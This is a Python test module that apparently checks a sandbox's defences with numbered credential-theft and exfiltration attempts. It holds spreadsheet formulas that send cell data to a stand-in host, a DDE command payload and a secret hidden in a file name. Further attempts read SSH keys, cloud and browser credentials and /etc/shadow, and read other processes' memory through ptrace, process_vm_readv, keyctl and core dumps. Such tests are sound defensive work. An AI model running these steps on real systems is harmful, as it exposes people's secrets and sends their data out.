"""Exposure of credentials, and documents that carry something out."""
from case import Attempt, left, word

DECOY = "cell.decoy"
SECCOMP = "cell.seccomp"


def files(number, name, technique, *names):
    return Attempt(number, name, technique, f"homes(*{names!r})", rule=DECOY)


WORKBOOK = """
import zipfile
os.makedirs(W + "/out", exist_ok=True)
with zipfile.ZipFile(W + "/out/report.xlsx", "w") as z:
    z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
    z.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
    z.writestr("xl/workbook.xml", '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>')
    z.writestr("xl/_rels/workbook.xml.rels", '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')
    z.writestr("xl/worksheets/sheet1.xml", '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>' + FORMULA + '</f></c></row></sheetData></worksheet>')
"""

FORMULAS = [
    ("WEBSERVICE", '_xlfn.WEBSERVICE("http://203.0.113.9/?d="&amp;B1)'),
    ("HYPERLINK", 'HYPERLINK("http://203.0.113.9/?d="&amp;B1)'),
    ("IMAGE", '_xlfn.IMAGE("http://203.0.113.9/?d="&amp;B1)'),
    ("DDE", "cmd|' /C calc'!A0"),
    ("external link", "'http://203.0.113.9/[x.xlsx]S'!A1"),
]

ATTEMPTS = [
    *[Attempt(27, f"workbook formula: {name}", "T1567", f"FORMULA = {formula!r}\n" + WORKBOOK, effect=left("out/report.xlsx"),
              rule="chaperone.commit.external_formula") for name, formula in FORMULAS],
    Attempt(29, "a file name as the carrier", "T1048", "open(W + '/report-AKIAQ3EGRVHBDY2T5LZX.txt', 'w').write('nothing\\n')",
            effect=left("report-AKIAQ3EGRVHBDY2T5LZX.txt"), rule="chaperone.commit.secret_in_name"),
    files(30, "credentials in files", "T1552.001", ".aws/credentials", ".git-credentials", ".docker/config.json",
          ".config/gcloud/application_default_credentials.json"),
    files(31, "shell history", "T1552.003", ".bash_history"),
    files(32, "private keys", "T1552.004", ".ssh/id_ed25519"),
    Attempt(32, "private keys named like certificates", "T1552.001", "show(W + '/certs/ca.pem', W + '/identity')", rule="secret_in_content"),
    Attempt(32, "a token in settings that mostly have none", "", "show(W + '/.npmrc')", rule="secret_in_content"),
    files(34, "Kubernetes", "T1552.007", ".kube/config"),
    Attempt(35, "memory of processes", "T1003.007", """
for pid in processes():
    memory_of(pid)
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
local = ctypes.create_string_buffer(16)
here, there = iovec(ctypes.addressof(local), 16), iovec(ctypes.addressof(local), 16)
libc.process_vm_readv(os.getppid(), ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
""", rule=SECCOMP),
    Attempt(36, "/etc/shadow", "T1003.008", "show('/etc/shadow')", rule=DECOY),
    files(37, "browser passwords", "T1555.003", ".mozilla/firefox/default/logins.json", ".config/google-chrome/Default/Login Data"),
    files(38, "password managers", "T1555.005", ".password-store/index.gpg"),
    files(39, "browser cookies", "T1539", ".mozilla/firefox/default/cookies.sqlite", ".config/google-chrome/Default/Cookies"),
    files(40, "application tokens", "T1528", ".config/gh/hosts.yml"),
    Attempt(41, "environment", "", """
print(dict(os.environ))
show(*[f"/proc/{p}/environ" for p in processes()])
"""),
    Attempt(42, "ssh-agent, keyring, D-Bus", "T1552.004|T1555", """
for path in [os.environ.get("SSH_AUTH_SOCK", ""), SHARED + "/agent.sock", SHARED + "/bus", "/run/user/1000/keyring/ssh"]:
    ask(path)
""", rule=DECOY),
    Attempt(43, "keyctl", "T1555", """
key = call(250, 10, -3, b"user", b"person-token", 0)
data = ctypes.create_string_buffer(256)
print("key", key, call(250, 11, key, data, 256))
print(data.value.decode())
""", rule=SECCOMP),
    Attempt(44, "ptrace", "T1055.008", """
pids = [p for p in [NEIGHBOUR, os.getppid()] if os.path.exists(f"/proc/{p}")]
for pid in pids:
    if call(101, 16, pid, 0, 0) == 0:
        os.waitpid(pid, 0x40000000)
        with open(f"/proc/{pid}/mem", "rb", 0) as memory:
            print("attached", pid, bool(memory))
        memory_of(pid)
        call(101, 17, pid, 0, 0)
""", rule=SECCOMP),
    Attempt(46, "core dumps", "", """
import resource
soft, hard = resource.getrlimit(resource.RLIMIT_CORE)
resource.setrlimit(resource.RLIMIT_CORE, (hard, hard))
os.chdir(W)
if os.fork() == 0:
    kept = os.environ.get("SECRET_TOKEN", "")
    os.abort()
os.wait()
for core in glob.glob(W + "/core*"):
    print("THE EFFECT IS THERE", core)
""", effect=word, skip=lambda: None if open("/proc/sys/kernel/core_pattern").read().strip() == "core"
            else "this machine gives core dumps to a program of the host"),
]
